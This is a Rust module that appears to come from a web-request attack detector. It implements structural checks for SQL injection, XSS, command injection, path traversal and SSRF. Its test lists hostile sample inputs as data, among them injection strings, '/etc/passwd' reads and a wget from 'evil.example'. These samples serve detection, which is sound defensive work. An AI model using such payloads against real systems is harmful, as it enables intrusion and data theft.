//! Structural detectors: does a value *change the shape* of what it is put into?
//!
//! A pattern asks "is this text there?"; a structural detector asks "what would this text do if a
//! program pasted it into a query, a page, a command line, a path or a URL?". `O'Reilly` and
//! `1' or '1'='1` both hold a quote; only the second one closes a string and goes on as SQL.
//!
//! Takes in: one decoded value (a query parameter, a header, a path). Gives out: where the
//! structure begins and how sure the detector is, or nothing. Every detector is total (any bytes
//! are valid input), linear in the value's length, and does not allocate.
//!
//! Sigma rules reach the detectors as modifiers: `cs-uri-query.*|sqli: medium`.

#[cfg(test)]
mod casefile;
pub mod code;
mod gate;
pub mod host;
pub mod html;
mod markdown;
pub mod path;
pub mod shell;
pub mod sql;
mod table;
pub mod url;

pub use gate::Gate;

use std::cell::Cell;

use crate::ruleset::layout::numbered;

numbered! {
    /// The detectors, as rules ask for them.
    Structure {
        /// SQL that changes the shape of a query.
        Sqli = 0,
        /// Markup or script that a page would run.
        Xss = 1,
        /// A command in command position.
        Command = 2,
        /// A path that leaves its directory or names a sensitive file.
        Traversal = 3,
        /// A URL that points where a server should not go.
        Ssrf = 4,
        /// An expression that a template engine would evaluate.
        Code = 5,
        /// A URL whose host is named as spam is.
        Spam = 6,
    }
}

impl Structure {
    /// The same in the value of a parameter of this name, and nothing for what is no injection there: a statement that is
    /// handed to a tool, or a whole statement, command or plain path in a field that people write in.
    pub fn find_in(self, name: &[u8], value: &[u8], steps: &Steps) -> Option<Finding> {
        match self {
            Structure::Sqli if sql::is_handed_over(name, value, steps) => None,
            Structure::Sqli => self
                .find(value, steps)
                .filter(|found| !(is_written(name) && sql::is_said(value, found, steps))),
            Structure::Command => self
                .find(value, steps)
                .filter(|_| !(is_written(name) && shell::is_said(value, steps))),
            // A page reports what its policy kept from running.
            Structure::Xss if name.eq_ignore_ascii_case(b"script-sample") => None,
            Structure::Traversal => self
                .find(value, steps)
                .filter(|_| !(is_written(name) && path::is_said(value, steps))),
            _ => self.find(value, steps),
        }
    }

    /// Runs the detector, as far as the steps go.
    pub fn find(self, value: &[u8], steps: &Steps) -> Option<Finding> {
        let steps_a_byte = match self {
            Structure::Traversal | Structure::Ssrf => 6,
            _ => 2,
        };
        let bytes = u32::try_from(value.len()).unwrap_or(u32::MAX);
        if !steps.take(bytes.saturating_mul(steps_a_byte)) {
            return None;
        }
        match self {
            Structure::Sqli => sql::sqli_within(value, steps),
            Structure::Xss => html::xss_within(value, steps),
            Structure::Command => shell::command_within(value, steps),
            Structure::Traversal => path::traversal(value),
            Structure::Ssrf => url::ssrf(value),
            Structure::Code => code::code_within(value, steps),
            Structure::Spam => host::spam(value),
        }
    }
}

/// Names of fields that people write in: search boxes, posts, messages.
const WRITTEN: &[&str] = &[
    "q",
    "s",
    "query",
    "search",
    "keyword",
    "keywords",
    "term",
    "terms",
    "question",
    "text",
    "body",
    "content",
    "comment",
    "message",
    "msg",
    "description",
    "title",
    "subject",
    "note",
    "notes",
    "post",
    "prompt",
    "markdown",
];

/// Whether people write in a field of this name.
fn is_written(name: &[u8]) -> bool {
    WRITTEN
        .iter()
        .any(|known| name.eq_ignore_ascii_case(known.as_bytes()))
}

/// Steps that a look for all of a list of texts costs at one byte.
const REACH_STEPS: u32 = 12;

/// Whether one of these texts, in lower case, stands anywhere in a value; also if that cannot be said with the steps left.
fn holds_any(value: &[u8], texts: &[&str], steps: &Steps) -> bool {
    let bytes = u32::try_from(value.len()).unwrap_or(u32::MAX);
    let stands_at = |at| {
        let rest = value.get(at..).unwrap_or_default();
        texts.iter().map(|text| text.as_bytes()).any(|text| {
            rest.get(..text.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(text))
        })
    };
    !steps.take(bytes.saturating_mul(REACH_STEPS)) || (0..value.len()).any(stands_at)
}

/// Bytes of the longest text that [`is_prose`] reads.
const PROSE_BYTES: usize = 256;

/// Whether no detector finds anything in a short text that holds nothing but words and spaces. It asks those whose gate a
/// space alone opens; `tests/prefilter.rs` holds the answers of all to be the same as without.
pub fn is_prose(value: &[u8]) -> bool {
    value.len() <= PROSE_BYTES && !sql::gate(value) && shell::command(value).is_none()
}

/// What may still be spent on a value. A step is about eight instructions of a processor: what reading a byte and a look
/// at a table take.
#[derive(Debug)]
pub struct Steps {
    left: Cell<u32>,
    ran_out: Cell<bool>,
}

impl Steps {
    /// So many.
    pub fn new(left: u32) -> Steps {
        Steps {
            left: Cell::new(left),
            ran_out: Cell::new(false),
        }
    }

    /// As many as it takes.
    pub fn unlimited() -> Steps {
        Steps::new(u32::MAX)
    }

    /// Takes some. Returns whether there were enough; if not, there are none any more.
    #[inline]
    pub fn take(&self, steps: u32) -> bool {
        match self.left.get().checked_sub(steps) {
            Some(left) => self.left.set(left),
            None => {
                self.left.set(0);
                self.ran_out.set(true);
            }
        }
        !self.ran_out.get()
    }

    /// How many there still are.
    pub fn left(&self) -> u32 {
        self.left.get()
    }

    /// Whether there were not enough at some time.
    pub fn ran_out(&self) -> bool {
        self.ran_out.get()
    }
}

/// What a structural detector found in one value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Finding {
    /// How sure the detector is, 0 to 100. [`LOW`], [`MEDIUM`] and [`HIGH`] are the steps that
    /// rules ask for by name.
    pub confidence: u8,
    /// Offset of the first byte of evidence in the value.
    pub start: usize,
    /// Offset just past the evidence; never past the end of the value.
    pub end: usize,
}

/// Structure that a legitimate value sometimes has: only good together with another sign.
pub const LOW: u8 = 30;
/// Structure that a legitimate value hardly ever has in this place.
pub const MEDIUM: u8 = 60;
/// Structure that only an attack has.
pub const HIGH: u8 = 90;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whole_statements_and_commands_in_a_search_box_are_no_injection() {
        let found = |name: &str, value: &str| {
            let steps = Steps::unlimited();
            let of = |structure: Structure| {
                structure
                    .find_in(name.as_bytes(), value.as_bytes(), &steps)
                    .is_some_and(|found| found.confidence >= MEDIUM)
            };
            of(Structure::Sqli) || of(Structure::Command) || of(Structure::Traversal)
        };
        for value in [
            "select * from products",
            "SELECT name FROM products WHERE price > 10 ORDER BY price;",
            "insert into users (name) values ('bob')",
            "ping 8.8.8.8",
            "chmod +x script.sh",
            "cat file.txt | sort | uniq",
            "tar -xzf file.tar.gz && ls -la",
            "/usr/local/bin",
            "c:\\windows",
        ] {
            assert!(!found("q", value), "{value}");
            assert!(!found("Search", value), "{value}");
            // Elsewhere nobody has a reason to send one.
            assert!(found("id", value), "{value}");
        }
        for value in [
            "1 union select 1,2,3",
            "select' or 1=1--",
            "select @@version",
            "select * from a; drop table b",
            "select * from mysql.user",
            "cat /etc/passwd",
            "ping -c 10 127.0.0.1",
            "wget http://evil.example/x.sh",
            "x; ls -la",
            "ls;id",
            "c'a't x.txt | sort",
            "../../../etc/passwd",
            "/etc/passwd",
        ] {
            assert!(found("q", value), "{value}");
        }
    }
}
